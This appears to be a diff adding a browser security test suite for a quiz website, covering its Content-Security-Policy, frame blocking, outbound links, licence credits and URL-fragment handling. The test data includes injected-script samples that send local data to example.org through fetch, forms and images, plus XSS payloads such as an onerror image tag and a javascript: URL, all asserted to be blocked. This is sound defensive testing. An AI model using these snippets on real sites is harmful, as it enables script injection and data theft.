@@ -1,0 +1,150 @@
+import { once } from 'node:events'
+import { readdirSync, readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import packageJson from '../../package.json' with { type: 'json' }
+import { metaPolicy, pageHeaders } from '../../src/headers.ts'
+import { notFoundPage, sitePages } from '../../src/site.ts'
+import { arriveAt, content, openSite } from './site.ts'
+
+const site = openSite()
+const paths = [...sitePages(content), notFoundPage].map(({ path }) => path)
+
+test('every page has the policy twice: in its headers, and as its first meta tag but one', async () => {
+  for (const path of paths) {
+    const response = await fetch(site.at(path))
+    const headers = Object.fromEntries(
+      Object.keys(pageHeaders).map((name) => [name, response.headers.get(name)]),
+    )
+    expect({ path, headers }).toEqual({ path, headers: pageHeaders })
+    const [, policy] =
+      /<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(
+        await response.text(),
+      ) ?? []
+    expect({ path, policy }).toEqual({ path, policy: metaPolicy })
+  }
+})
+
+/** What somebody who got a script into a page would try next, as the body of a function that throws when it is stopped. */
+const attacks = [
+  { what: 'text that becomes markup', code: `document.body.innerHTML = '<img src=x>'` },
+  { what: 'text that becomes code', code: `new Function('return 1')()` },
+  {
+    what: 'a script from elsewhere',
+    code: `document.createElement('script').src = 'https://example.org/x.js'`,
+  },
+  {
+    what: 'a policy of its own',
+    code: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
+  },
+  {
+    what: 'the site’s policy once more',
+    code: `trustedTypes.createPolicy('service-worker', { createScriptURL: (text) => text })`,
+  },
+  { what: 'another worker', code: `new Worker('/assets/evil.js')` },
+  {
+    what: 'sending answers away',
+    code: `await fetch('https://example.org/?' + localStorage.length)`,
+  },
+  {
+    what: 'a form to elsewhere',
+    code: `
+      const form = document.createElement('form')
+      form.action = 'https://example.org/'
+      document.body.append(form)
+      const refused = new Promise((_, stop) => addEventListener('securitypolicyviolation', () => stop(new Error('refused'))))
+      form.submit()
+      await refused`,
+  },
+  {
+    what: 'a picture that carries answers away',
+    code: `
+      const image = new Image()
+      const refused = new Promise((_, stop) => { image.onerror = () => stop(new Error('refused')) })
+      image.src = 'https://example.org/?answers'
+      await refused`,
+  },
+]
+
+describe('a script that got in does not get', () => {
+  test.each(attacks)('$what', async ({ code }) => {
+    const { page } = await site.visitor({ hostile: true })
+    await page.goto(site.at('/quiz/'))
+    await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
+    // After a pause it runs as a script of the page, and not with the rights of the one who tests.
+    const outcome = await page.evaluate(`(async () => {
+      await new Promise((go) => setTimeout(go))
+      try { ${code}; return 'done' } catch (error) { return 'stopped: ' + error.message }
+    })()`)
+    expect(outcome).toMatch(/^stopped/)
+  })
+})
+
+test('no other site can put a page into a frame', async () => {
+  const other = createServer((_, answer) => {
+    answer.setHeader('Content-Type', 'text/html').end(`<iframe src="${site.at('/results/')}">`)
+  }).listen(0)
+  await once(other, 'listening')
+  const address = other.address()
+  if (address === null || typeof address === 'string') throw new Error('There is no port')
+  const { page } = await site.visitor({ hostile: true })
+  await page.goto(`http://localhost:${address.port}/`)
+  expect(page.frames()).toHaveLength(2)
+  const shown = page.frameLocator('iframe').getByRole('heading', { name: 'Your results' })
+  expect(await shown.count()).toBe(0)
+  other.close()
+})
+
+test('built pages point to other hosts with plain links only, and tell them nothing', () => {
+  const loads: string[] = []
+  for (const name of readdirSync('dist', { recursive: true, encoding: 'utf8' })) {
+    if (!name.endsWith('.html')) continue
+    const html = readFileSync(join('dist', name), 'utf8')
+    for (const [tag] of html.matchAll(
+      /<[a-z]+ [^>]*(?:href|src|action)="(?:https?:)?\/\/[^>]*>/g,
+    )) {
+      const isPlain = tag.startsWith('<a ') && tag.includes('rel="noopener noreferrer"')
+      if (!isPlain) loads.push(`${name}: ${tag}`)
+    }
+  }
+  expect(loads).toEqual([])
+})
+
+test('the credits lead to the licences of what is bundled, and to the bill of materials', async () => {
+  const { page } = await site.visitor()
+  await page.goto(site.at('/credits/'))
+  const behind = async (name: string) => {
+    const link = await page.getByRole('link', { name }).getAttribute('href')
+    return fetch(new URL(link ?? '', page.url()))
+  }
+  const licences = await (await behind('with their licences')).text()
+  const bill = await (await behind('for machines')).json()
+  expect(bill).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' })
+  for (const [name, version] of Object.entries(packageJson.dependencies)) {
+    const purl = `pkg:npm/${name.replace('@', '%40')}@${version}`
+    expect(bill.components).toContainEqual(expect.objectContaining({ purl }))
+    expect(licences).toContain(`${name} ${version} (`)
+  }
+  for (const { licenses } of bill.components) {
+    expect(['MIT', 'Unlicense', 'ISC', 'BSD-3-Clause']).toContain(licenses[0].license.id)
+  }
+})
+
+test('a hostile fragment is shown as a link that cannot be read, and nothing of it becomes markup', async () => {
+  const { page } = await site.visitor()
+  for (const fragment of [
+    '<img src=x onerror=alert(1)>',
+    'javascript:alert(1)',
+    '1.%3Cscript%3E.AAA',
+    '__proto__',
+    '1.'.repeat(50_000),
+  ]) {
+    for (const path of ['/results/', '/compare/', '/path/ai-red-team-engineer/']) {
+      await page.goto('about:blank')
+      await page.goto(`${site.at(path)}#${fragment}`)
+      await arriveAt(page, /./)
+      expect(await page.locator('main img, main script').count()).toBe(0)
+    }
+  }
+})
